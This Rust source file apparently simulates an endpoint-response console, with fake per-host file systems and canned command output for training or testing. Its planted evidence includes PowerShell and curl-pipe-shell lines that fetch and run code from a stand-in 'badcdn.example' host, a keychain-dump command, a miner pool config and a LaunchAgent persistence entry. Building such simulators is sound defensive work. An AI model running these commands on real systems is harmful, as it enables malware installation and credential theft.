//! Command output for RTR: a small per-host virtual file system and per-platform renderings of
//! the read-only commands (ls/dir, ps, netstat, ipconfig/ifconfig, reg query, cat, env, filehash,
//! getsid, users, mount, history, eventlog...). Output depends only on the host and the command.

use md5::Digest as _;
use serde_json::Value;
use sha2::Sha256;

/// What a command produced.
#[derive(Debug, Default)]
pub(crate) struct Output {
    pub stdout: String,
    pub stderr: String,
    /// New working directory (after `cd`).
    pub cwd: Option<String>,
    /// A file retrieved with `get`: (device path, contents).
    pub file: Option<(String, Vec<u8>)>,
}

fn s(h: &Value, k: &str) -> String {
    h[k].as_str().unwrap_or("").to_string()
}

fn user_of(h: &Value) -> String {
    let u = s(h, "last_login_user");
    u.rsplit('\\').next().unwrap_or(&u).to_string()
}

/// The host's files: (path, contents or `None` for a directory).
fn files(h: &Value) -> Vec<(String, Option<Vec<u8>>)> {
    let user = user_of(h);
    let host = s(h, "hostname");
    let ip = s(h, "local_ip");
    let d = |p: &str| (p.to_string(), None);
    let f = |p: &str, c: &str| (p.to_string(), Some(c.as_bytes().to_vec()));
    match h["platform_name"].as_str().unwrap_or("") {
        "Windows" => {
            let home = format!("C:\\Users\\{user}");
            let mut mz = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
            mz.extend_from_slice(
                b"This program cannot be run in DOS mode.\r\n falcon-sim sample loader (inert)",
            );
            vec![
                d("C:\\"),
                d("C:\\Users"),
                d(&home),
                d(&format!("{home}\\Desktop")),
                d(&format!("{home}\\Documents")),
                d(&format!("{home}\\Downloads")),
                f(
                    &format!("{home}\\Desktop\\notes.txt"),
                    &format!(
                        "Meeting notes for {host}\r\n- rotate service account passwords\r\n- review VPN logs\r\n"
                    ),
                ),
                f(
                    &format!("{home}\\Documents\\Q3-report.docx"),
                    "PK\u{3}\u{4} (docx placeholder)",
                ),
                (format!("{home}\\Downloads\\invoice.exe"), Some(mz)),
                d("C:\\Users\\Public"),
                f(
                    "C:\\Users\\Public\\sync.bat",
                    "@echo off\r\npowershell -w hidden -c \"iex (iwr http://update-check.badcdn.example/s)\"\r\n",
                ),
                d("C:\\Windows"),
                d("C:\\Windows\\System32"),
                d("C:\\Windows\\System32\\drivers"),
                d("C:\\Windows\\System32\\drivers\\etc"),
                f(
                    "C:\\Windows\\System32\\drivers\\etc\\hosts",
                    "# Copyright (c) 1993-2009 Microsoft Corp.\r\n127.0.0.1       localhost\r\n::1             localhost\r\n",
                ),
                d("C:\\Windows\\Temp"),
                f(
                    "C:\\Windows\\Temp\\setup.log",
                    "Setup completed successfully.\r\n",
                ),
                d("C:\\Program Files"),
                d("C:\\Program Files\\CrowdStrike"),
                d("C:\\ProgramData"),
            ]
        }
        "Mac" => {
            let home = format!("/Users/{user}");
            vec![
                d("/"),
                d("/Users"),
                d(&home),
                d(&format!("{home}/Downloads")),
                d(&format!("{home}/Documents")),
                d(&format!("{home}/Library")),
                d(&format!("{home}/Library/LaunchAgents")),
                f(
                    &format!("{home}/Library/LaunchAgents/com.apple.updates.plist"),
                    "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>com.apple.updates</string><key>ProgramArguments</key><array><string>/tmp/.i.sh</string></array></dict></plist>\n",
                ),
                f(
                    &format!("{home}/Documents/todo.txt"),
                    "- renew certificates\n- update design system\n",
                ),
                f(
                    &format!("{home}/.zsh_history"),
                    "ls -la\ncd Downloads\ncurl -s https://api.github.com\nsecurity dump-keychain -d login.keychain-db\n",
                ),
                d("/Applications"),
                d("/Applications/Falcon.app"),
                d("/etc"),
                f(
                    "/etc/hosts",
                    "127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1\tlocalhost\n",
                ),
                d("/tmp"),
                f(
                    "/tmp/.i.sh",
                    "#!/bin/bash\nlaunchctl load -w ~/Library/LaunchAgents/com.apple.updates.plist\n",
                ),
            ]
        }
        _ => {
            let home = format!("/home/{user}");
            vec![
                d("/"),
                d("/etc"),
                f("/etc/hostname", &format!("{host}\n")),
                f("/etc/hosts", &format!("127.0.0.1 localhost\n{ip} {host}\n")),
                f(
                    "/etc/os-release",
                    &format!(
                        "NAME=\"{}\"\nPRETTY_NAME=\"{}\"\n",
                        s(h, "os_product_name"),
                        s(h, "os_version")
                    ),
                ),
                f(
                    "/etc/passwd",
                    &format!(
                        "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\ndeploy:x:1001:1001::/home/deploy:/bin/bash\n{user}:x:1000:1000::{home}:/bin/bash\n"
                    ),
                ),
                d("/home"),
                d(&home),
                f(
                    &format!("{home}/.bash_history"),
                    "sudo systemctl status nginx\ntail -f /var/log/nginx/access.log\ncurl -fsSL http://update-check.badcdn.example/i.sh | sh\n",
                ),
                d("/tmp"),
                d("/tmp/.x"),
                f(
                    "/tmp/.x/config.json",
                    "{\"pools\":[{\"url\":\"pool.update-check.badcdn.example:443\"}]}\n",
                ),
                d("/var"),
                d("/var/log"),
                f(
                    "/var/log/auth.log",
                    &format!(
                        "sshd[1123]: Accepted publickey for deploy from 10.1.0.5 port 51514 ssh2\nsudo: {user} : TTY=pts/0 ; PWD={home} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx\n"
                    ),
                ),
                d("/root"),
                d("/opt"),
                d("/opt/CrowdStrike"),
            ]
        }
    }
}

fn is_windows(h: &Value) -> bool {
    h["platform_name"] == "Windows"
}

fn norm(h: &Value, p: &str) -> String {
    if is_windows(h) {
        let p = p.replace('/', "\\");
        let p = p.trim_end_matches('\\');
        if p.len() == 2 && p.ends_with(':') {
            format!("{p}\\")
        } else {
            p.to_string()
        }
    } else {
        let p = p.trim_end_matches('/');
        if p.is_empty() {
            "/".into()
        } else {
            p.to_string()
        }
    }
}

fn resolve(h: &Value, cwd: &str, arg: &str) -> String {
    let arg = arg.trim_matches('"').trim_matches('\'');
    let absolute = if is_windows(h) {
        arg.len() >= 2 && arg.as_bytes()[1] == b':'
    } else {
        arg.starts_with('/')
    };
    if arg.is_empty() {
        return norm(h, cwd);
    }
    if absolute {
        return norm(h, arg);
    }
    let sep = if is_windows(h) { "\\" } else { "/" };
    let mut parts: Vec<String> = norm(h, cwd)
        .split(sep)
        .filter(|x| !x.is_empty())
        .map(String::from)
        .collect();
    for seg in arg.split(['\\', '/']) {
        match seg {
            "" | "." => {}
            ".." => {
                if parts.len() > usize::from(is_windows(h)) {
                    parts.pop();
                }
            }
            x => parts.push(x.to_string()),
        }
    }
    if is_windows(h) {
        norm(h, &format!("{}\\", parts.join("\\")))
    } else {
        format!("/{}", parts.join("/"))
    }
}

fn same(h: &Value, a: &str, b: &str) -> bool {
    if is_windows(h) {
        a.eq_ignore_ascii_case(b)
    } else {
        a == b
    }
}

fn find<'a>(
    h: &Value,
    fs: &'a [(String, Option<Vec<u8>>)],
    path: &str,
) -> Option<&'a (String, Option<Vec<u8>>)> {
    fs.iter().find(|(p, _)| same(h, p, path))
}

fn children<'a>(
    h: &Value,
    fs: &'a [(String, Option<Vec<u8>>)],
    dir: &str,
) -> Vec<&'a (String, Option<Vec<u8>>)> {
    let sep = if is_windows(h) { '\\' } else { '/' };
    fs.iter()
        .filter(|(p, _)| {
            let parent = match p.rfind(sep) {
                Some(0) if !is_windows(h) => "/".to_string(),
                Some(i) => norm(h, &p[..=i]),
                None => return false,
            };
            same(h, &parent, dir) && !same(h, p, dir)
        })
        .collect()
}

fn args(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote = false;
    for c in cmd.chars() {
        match c {
            '"' => quote = !quote,
            ' ' if !quote => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            c => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

fn not_found(h: &Value, path: &str) -> String {
    if is_windows(h) {
        format!("Cannot find path '{path}' because it does not exist.")
    } else {
        format!("{path}: No such file or directory")
    }
}

/// Default working directory of a new session.
pub(crate) fn default_pwd(h: &Value) -> String {
    match h["platform_name"].as_str().unwrap_or("") {
        "Windows" => "C:\\".into(),
        _ => "/".into(),
    }
}

/// Runs a command line on a host.
pub(crate) fn run(h: &Value, cwd: &str, base: &str, command_string: &str) -> Output {
    let a = args(command_string);
    let rest: Vec<&str> = a.iter().skip(1).map(String::as_str).collect();
    let fs = files(h);
    let win = is_windows(h);
    let platform = h["platform_name"].as_str().unwrap_or("");
    let host = s(h, "hostname");
    let user = user_of(h);
    let mut o = Output::default();
    let first_path = rest
        .iter()
        .find(|x| !x.starts_with('-'))
        .copied()
        .unwrap_or("");
    match base {
        "ls" | "dir" => {
            let path = resolve(h, cwd, first_path);
            match find(h, &fs, &path) {
                Some((_, None)) => {
                    let kids = children(h, &fs, &path);
                    if win {
                        o.stdout = format!("Directory listing for {path} -\n\nName                                     Type         Size (bytes)    Last Modified (UTC)\n----                                     ----         ------------    -------------------\n");
                        for (p, c) in kids {
                            let name = p.rsplit('\\').next().unwrap_or(p);
                            let (t, size) = match c { None => ("<Directory>", "--".to_string()), Some(b) => (".", b.len().to_string()) };
                            o.stdout.push_str(&format!("{name:<40} {t:<12} {size:<15} 2025-05-02T09:14:33Z\n"));
                        }
                    } else {
                        o.stdout = format!("total {}\n", kids.len());
                        for (p, c) in kids {
                            let name = p.rsplit('/').next().unwrap_or(p);
                            let (mode, size) = match c { None => ("drwxr-xr-x", 4096), Some(b) => ("-rw-r--r--", b.len()) };
                            o.stdout.push_str(&format!("{mode}  1 {user:<8} staff {size:>8} May  2 09:14 {name}\n"));
                        }
                    }
                }
                Some((p, Some(b))) => o.stdout = format!("{p} {}\n", b.len()),
                None => o.stderr = not_found(h, &path),
            }
        }
        "cd" => {
            let path = resolve(h, cwd, first_path);
            match find(h, &fs, &path) {
                Some((p, None)) => {
                    o.stdout = p.clone();
                    o.cwd = Some(p.clone());
                }
                _ => o.stderr = not_found(h, &path),
            }
        }
        "pwd" => o.stdout = cwd.to_string(),
        "cat" | "filehash" | "get" => {
            if first_path.is_empty() {
                o.stderr = format!("{base}: a file path is required");
                return o;
            }
            let path = resolve(h, cwd, first_path);
            match find(h, &fs, &path) {
                Some((p, Some(b))) => match base {
                    "cat" => o.stdout = String::from_utf8_lossy(b).to_string(),
                    "filehash" => {
                        o.stdout = format!("{p}\nMD5: {}\nSHA256: {}\n", hex::encode(md5::Md5::digest(b)), hex::encode(Sha256::digest(b)));
                    }
                    _ => {
                        o.stdout = format!("{p}\n");
                        o.file = Some((p.clone(), b.clone()));
                    }
                },
                Some((p, None)) => o.stderr = format!("{p} is a directory"),
                None => o.stderr = not_found(h, &path),
            }
        }
        "ps" => {
            let procs: &[(&str, u32)] = match platform {
                "Windows" => &[("System", 4), ("smss.exe", 388), ("csrss.exe", 512), ("wininit.exe", 596), ("services.exe", 668), ("lsass.exe", 624), ("svchost.exe", 812), ("CSFalconService.exe", 2932), ("explorer.exe", 4120), ("chrome.exe", 6644), ("OUTLOOK.EXE", 7012), ("powershell.exe", 8120)],
                "Mac" => &[("launchd", 1), ("falcond", 142), ("WindowServer", 160), ("Finder", 612), ("Safari", 1204), ("Slack", 1388), ("zsh", 2201)],
                _ => &[("systemd", 1), ("sshd", 812), ("falcon-sensor", 955), ("cron", 1002), ("nginx", 1310), ("python3", 2044), ("bash", 3120)],
            };
            if win {
                o.stdout = "Name                      PID    Start Time (UTC)        User\n----                      ---    ----------------        ----\n".to_string();
                for (n, pid) in procs {
                    let u = if *pid < 3000 { "NT AUTHORITY\\SYSTEM".to_string() } else { format!("CORP\\{user}") };
                    o.stdout.push_str(&format!("{n:<25} {pid:<6} 2025-06-12T07:02:11Z    {u}\n"));
                }
            } else {
                o.stdout = "  PID USER      COMMAND\n".to_string();
                for (n, pid) in procs {
                    let u = if *pid < 1000 { "root" } else { user.as_str() };
                    o.stdout.push_str(&format!("{pid:>5} {u:<9} {n}\n"));
                }
            }
        }
        "netstat" => {
            let ip = s(h, "local_ip");
            o.stdout = format!(
                "Proto  Local Address          Foreign Address        State        PID\nTCP    0.0.0.0:{}            0.0.0.0:0              LISTENING    812\nTCP    {ip}:51514       10.1.0.5:445           ESTABLISHED  4\nTCP    {ip}:52201       52.96.165.18:443       ESTABLISHED  7012\nUDP    0.0.0.0:5353           *:*                                 1204\n",
                if win { "135" } else { "22" }
            );
        }
        "ipconfig" | "ifconfig" => {
            let ip = s(h, "local_ip");
            let mac = s(h, "mac_address");
            let gw = s(h, "default_gateway_ip");
            if win {
                o.stdout = format!("Windows IP Configuration\n\n   Host Name . . . . . . . . . . . . : {host}\n   Primary Dns Suffix  . . . . . . . : {}\n\nEthernet adapter Ethernet0:\n\n   Physical Address. . . . . . . . . : {}\n   IPv4 Address. . . . . . . . . . . : {ip}\n   Subnet Mask . . . . . . . . . . . : 255.255.255.0\n   Default Gateway . . . . . . . . . : {gw}\n   DNS Servers . . . . . . . . . . . : 10.1.0.10\n", s(h, "machine_domain"), mac.to_uppercase());
            } else {
                let iface = if platform == "Mac" { "en0" } else { "eth0" };
                o.stdout = format!("{iface}: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n        inet {ip}  netmask 255.255.255.0  broadcast {}.255\n        ether {}\nlo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536\n        inet 127.0.0.1  netmask 255.0.0.0\n", ip.rsplit_once('.').map(|x| x.0).unwrap_or(""), mac.replace('-', ":"));
            }
        }
        "reg" => {
            if !win {
                o.stderr = "reg is only supported on Windows hosts".into();
                return o;
            }
            let sub = rest.first().copied().unwrap_or("");
            if sub != "query" {
                o.stderr = format!("reg {sub}: not a read-only command; use the active-responder endpoint");
                return o;
            }
            let key = rest.get(1).copied().unwrap_or("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run");
            o.stdout = if key.to_ascii_lowercase().contains("run") {
                format!("{key}\n    SecurityHealth    REG_EXPAND_SZ    %windir%\\system32\\SecurityHealthSystray.exe\n    OneDrive Sync    REG_SZ    C:\\Users\\Public\\sync.bat\n")
            } else {
                format!("{key}\n    (Default)    REG_SZ    (value not set)\n")
            };
        }
        "env" => {
            o.stdout = if win {
                format!("COMPUTERNAME={host}\nOS=Windows_NT\nPROCESSOR_ARCHITECTURE=AMD64\nSystemRoot=C:\\Windows\nTEMP=C:\\Windows\\TEMP\nUSERDOMAIN=CORP\nUSERNAME=SYSTEM\n")
            } else {
                format!("HOME=/root\nHOSTNAME={host}\nLANG=en_US.UTF-8\nPATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\nSHELL=/bin/bash\nUSER=root\n")
            };
        }
        "getsid" => {
            if !win {
                o.stderr = "getsid is only supported on Windows hosts".into();
                return o;
            }
            o.stdout = format!("UserName                  SID\n--------                  ---\nCORP\\{user}           S-1-5-21-3623811015-3361044348-30300820-1013\nCORP\\svc_backup          S-1-5-21-3623811015-3361044348-30300820-1107\nAdministrator             S-1-5-21-3623811015-3361044348-30300820-500\n");
        }
        "users" => {
            o.stdout = if win { format!("CORP\\{user}\nCORP\\svc_backup\n") } else { format!("{user}\nroot\n") };
        }
        "mount" => {
            o.stdout = match platform {
                "Windows" => "Name  FileSystem  Size\nC:    NTFS        511.2 GB\nD:    NTFS        931.5 GB\n".into(),
                "Mac" => "/dev/disk3s1s1 on / (apfs, sealed, local, read-only, journaled)\n/dev/disk3s5 on /System/Volumes/Data (apfs, local, journaled, nobrowse)\n".into(),
                _ => "/dev/nvme0n1p1 on / type ext4 (rw,relatime)\ntmpfs on /run type tmpfs (rw,nosuid,nodev)\n/dev/nvme1n1 on /data type xfs (rw,relatime)\n".into(),
            };
        }
        "history" => o.stdout = "No commands in this session's history yet.\n".into(),
        "eventlog" => {
            if !win {
                o.stderr = "eventlog is only supported on Windows hosts".into();
                return o;
            }
            let log = rest.get(1).copied().unwrap_or("Security");
            o.stdout = match rest.first().copied().unwrap_or("list") {
                "list" => "Name         Entries\nApplication  18231\nSecurity     98210\nSystem       22011\n".into(),
                "view" => format!("Log: {log}\nTimeGenerated          EventID  Source                               Message\n2025-06-13T01:58:02Z   4624     Microsoft-Windows-Security-Auditing  An account was successfully logged on. CORP\\{user}\n2025-06-13T02:01:10Z   4688     Microsoft-Windows-Security-Auditing  A new process has been created. rundll32.exe\n2025-06-13T02:03:44Z   1102     Microsoft-Windows-Eventlog           The audit log was cleared.\n"),
                other => {
                    o.stderr = format!("eventlog: unknown subcommand '{other}' (use list or view)");
                    return o;
                }
            };
        }
        "help" => o.stdout = "Available commands: cat, cd, clear, env, eventlog, filehash, getsid, help, history, ipconfig, ls, mount, netstat, ps, reg query, users\n".into(),
        "clear" => {}
        "kill" => {
            o.stdout = match rest.first() {
                Some(pid) => format!("Process {pid} killed\n"),
                None => {
                    o.stderr = "kill: a process id is required".into();
                    String::new()
                }
            };
        }
        "mkdir" | "rm" | "cp" | "mv" | "zip" | "encrypt" | "map" | "unmap" | "memdump" | "xmemdump" | "restart" | "shutdown" | "update" | "runscript" | "run" | "put" => {
            o.stdout = format!("{command_string}: completed\n");
        }
        other => o.stderr = format!("{other}: command not supported by the simulator"),
    }
    o
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn win() -> Value {
        json!({"platform_name": "Windows", "hostname": "WS-FIN-042", "last_login_user": "CORP\\jdoe", "local_ip": "10.3.0.4", "mac_address": "00-0d-3a-56-11-c1", "machine_domain": "corp.example"})
    }

    #[test]
    fn windows_ls_cd_cat_get() {
        let h = win();
        let o = run(&h, "C:\\", "ls", "ls C:\\Users\\jdoe");
        assert!(
            o.stdout.contains("Downloads") && o.stdout.contains("<Directory>"),
            "{}",
            o.stdout
        );
        let o = run(&h, "C:\\", "cd", "cd Users\\jdoe\\Desktop");
        assert_eq!(o.cwd.as_deref(), Some("C:\\Users\\jdoe\\Desktop"));
        let o = run(&h, "C:\\Users\\jdoe\\Desktop", "cat", "cat notes.txt");
        assert!(o.stdout.contains("Meeting notes"));
        let o = run(
            &h,
            "C:\\",
            "get",
            "get C:\\Users\\jdoe\\Downloads\\invoice.exe",
        );
        assert!(o.file.is_some_and(|(_, b)| b.starts_with(b"MZ")));
        let o = run(&h, "C:\\", "ls", "ls C:\\nope");
        assert!(o.stderr.contains("does not exist"));
        assert!(
            run(
                &h,
                "C:\\",
                "reg",
                "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
            )
            .stdout
            .contains("sync.bat")
        );
    }

    #[test]
    fn linux_paths() {
        let h = json!({"platform_name": "Linux", "hostname": "lnx-web-01", "last_login_user": "asmith", "local_ip": "10.1.0.9", "os_product_name": "Ubuntu", "os_version": "Ubuntu 22.04"});
        let o = run(&h, "/", "ls", "ls /etc");
        assert!(o.stdout.contains("passwd"), "{}", o.stdout);
        let o = run(&h, "/etc", "cd", "cd ..");
        assert_eq!(o.cwd.as_deref(), Some("/"));
        assert!(
            run(&h, "/", "cat", "cat /etc/hostname")
                .stdout
                .contains("lnx-web-01")
        );
        assert!(
            run(&h, "/", "reg", "reg query HKLM")
                .stderr
                .contains("only supported on Windows")
        );
    }
}
